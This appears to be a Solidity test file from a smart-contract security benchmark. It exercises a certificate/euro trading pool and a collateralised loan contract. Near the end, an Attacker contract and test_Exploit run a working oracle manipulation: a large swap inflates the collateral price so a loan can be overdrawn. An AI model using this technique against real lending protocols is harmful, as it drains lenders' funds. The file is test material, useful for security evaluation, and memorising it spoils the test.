// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./CertificateLoans.sol";

// assay-canary-943b8284-c5f4-4ad0-96e3-57c7fff1e77c

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Minted is ERC20 {
    address private maker = msg.sender;

    constructor(string memory name) ERC20(name, name) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract Certificate is Minted("GO") {}

contract Euro is Minted("EUR") {}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant PAT = address(0x9A7);
    address private constant SUE = address(0x50E);
    uint256 private constant START = 1_700_000_000;

    Certificate private certificate;
    Euro public euro;
    CertificatePool private pool;
    CertificateLoans private loans;
    Attacker private mallory;

    // the pool is quiet for a day, and loans are paid out for one more hour
    function setUp() public {
        vm.warp(START);
        certificate = new Certificate();
        euro = new Euro();
        pool = new CertificatePool(certificate, euro, PAT);
        certificate.mint(PAT, 20_000 ether);
        euro.mint(PAT, 20_000 ether);
        vm.startPrank(PAT);
        certificate.approve(address(pool), type(uint256).max);
        euro.approve(address(pool), type(uint256).max);
        pool.initialize(10_000 ether, 10_000 ether);
        vm.stopPrank();
        loans = new CertificateLoans(pool, SUE, START + 26 hours, START + 30 days);
        euro.mint(SUE, 40_000 ether);
        vm.startPrank(SUE);
        euro.approve(address(loans), type(uint256).max);
        loans.fund(40_000 ether);
        vm.stopPrank();
        rich(ANA);
        rich(BEN);
        vm.warp(START + 25 hours);
        mallory = new Attacker(pool, loans);
        euro.mint(address(mallory), 20_000 ether);
    }

    function rich(address who) private {
        certificate.mint(who, 1_000 ether);
        euro.mint(who, 1_000 ether);
        vm.startPrank(who);
        certificate.approve(address(pool), type(uint256).max);
        certificate.approve(address(loans), type(uint256).max);
        euro.approve(address(pool), type(uint256).max);
        euro.approve(address(loans), type(uint256).max);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.startPrank(PAT);
        pool.provide(0.5 ether);
        require(pool.stock() == 15_000 ether && pool.cash() == 15_000 ether, "provided");
        pool.takeOut(0.2 ether);
        require(pool.stock() == 12_000 ether && pool.spotPrice() == 1 ether, "taken out");
        vm.stopPrank();
        vm.startPrank(ANA);
        uint256 out = pool.swap(true, 100 ether, 98 ether, BEN);
        require(certificate.balanceOf(BEN) == 1_000 ether + out && pool.spotPrice() > 1 ether, "bought");
        require(pool.swap(false, 100 ether, 0, ANA) > 99 ether, "sold");
        require(loans.averagePrice() == 1 ether, "average");
        loans.draw(200 ether, 100 ether);
        (uint256 collateral, uint256 debt) = loans.loanOf(ANA);
        require(collateral == 200 ether && debt == 102 ether && loans.available() == 39_900 ether, "drawn");
        loans.repay();
        require(loans.available() == 40_002 ether, "repaid");
        vm.stopPrank();
        vm.prank(BEN);
        loans.draw(100 ether, 59 ether);
        vm.warp(START + 48 hours);
        loans.observe();
        (uint256 time, ) = loans.newer();
        require(time == START + 48 hours, "observed");
        vm.warp(START + 30 days + 1);
        vm.startPrank(SUE);
        loans.seize(BEN, SUE);
        require(certificate.balanceOf(SUE) == 100 ether, "seized");
        loans.takeOut(PAT, 30_000 ether);
        require(loans.available() == 9_943 ether, "taken out");
        vm.stopPrank();
        bytes32 role = pool.PROVIDER_ROLE();
        pool.grantRole(role, ANA);
        pool.revokeRole(role, ANA);
        pool.renounceRole(0, address(this));
        role = loans.TREASURER_ROLE();
        loans.grantRole(role, ANA);
        loans.revokeRole(role, ANA);
        loans.renounceRole(0, address(this));
    }

    function test_RefusesSetups() public {
        vm.expectRevert("CertificatePool: same token");
        new CertificatePool(euro, euro, PAT);
        vm.expectRevert("CertificateLoans: maturity too early");
        new CertificateLoans(pool, SUE, START + 1, START + 1);
        CertificatePool other = new CertificatePool(certificate, euro, PAT);
        vm.startPrank(PAT);
        vm.expectRevert("CertificatePool: open already");
        pool.initialize(1, 1);
        vm.expectRevert("CertificatePool: no liquidity");
        other.initialize(0, 1);
        vm.expectRevert("CertificatePool: no liquidity");
        other.initialize(1, 0);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        CertificatePool other = new CertificatePool(certificate, euro, PAT);
        vm.startPrank(ANA);
        certificate.approve(address(other), 10);
        euro.approve(address(other), 10);
        vm.expectRevert();
        other.initialize(1, 1);
        vm.expectRevert();
        pool.provide(1);
        vm.expectRevert();
        pool.takeOut(0);
        vm.expectRevert();
        loans.fund(1);
        vm.expectRevert();
        loans.takeOut(ANA, 1);
        vm.stopPrank();
        vm.prank(BEN);
        loans.draw(100 ether, 1);
        vm.warp(START + 31 days);
        vm.prank(ANA);
        vm.expectRevert();
        loans.seize(BEN, ANA);
    }

    function test_RefusesTrades() public {
        vm.startPrank(ANA);
        vm.expectRevert("CertificatePool: too little");
        pool.swap(true, 0, 0, ANA);
        vm.expectRevert("CertificatePool: too little");
        pool.swap(true, 100 ether, 99 ether, ANA);
        vm.stopPrank();
        vm.prank(PAT);
        vm.expectRevert("CertificatePool: all of it");
        pool.takeOut(1 ether);
    }

    function test_RefusesLoans() public {
        vm.startPrank(ANA);
        vm.expectRevert("CertificateLoans: not available");
        loans.draw(1_000 ether, 0);
        vm.expectRevert("CertificateLoans: not available");
        loans.draw(1_000 ether, 40_000 ether + 1);
        vm.expectRevert("CertificateLoans: too little collateral");
        loans.draw(100 ether, 60 ether + 1);
        vm.expectRevert("CertificateLoans: no loan");
        loans.repay();
        loans.draw(100 ether, 60 ether);
        vm.expectRevert("CertificateLoans: has a loan");
        loans.draw(100 ether, 1);
        vm.warp(START + 26 hours + 1);
        loans.repay();
        vm.expectRevert("CertificateLoans: closed");
        loans.draw(100 ether, 1);
        vm.stopPrank();
        vm.startPrank(SUE);
        vm.expectRevert("CertificateLoans: not available");
        loans.takeOut(SUE, 50_000 ether);
        vm.warp(START + 30 days + 1);
        vm.expectRevert("CertificateLoans: no loan");
        loans.seize(ANA, SUE);
        vm.stopPrank();
    }

    function test_RefusesTimes() public {
        vm.prank(BEN);
        loans.draw(100 ether, 1 ether);
        vm.warp(START + 30 days);
        vm.prank(SUE);
        vm.expectRevert("CertificateLoans: not due");
        loans.seize(BEN, SUE);
        loans.observe();
        vm.warp(START + 31 days - 1);
        vm.expectRevert("CertificateLoans: too soon");
        loans.observe();
        CertificateLoans other = new CertificateLoans(pool, SUE, START + 60 days, START + 90 days);
        vm.warp(START + 32 days - 2);
        vm.expectRevert("CertificateLoans: window too short");
        other.averagePrice();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(euro.balanceOf(address(mallory)) >= 30_000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(loans);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CertificatePool private pool;
    CertificateLoans private loans;

    constructor(CertificatePool p, CertificateLoans l) {
        pool = p;
        loans = l;
        p.cashToken().approve(address(p), type(uint256).max);
        p.stockToken().approve(address(l), type(uint256).max);
    }

    function run() external {
        uint256 bought = pool.swap(true, 20_000 ether, 0, address(this));
        loans.draw(bought, 35_000 ether);
    }
}
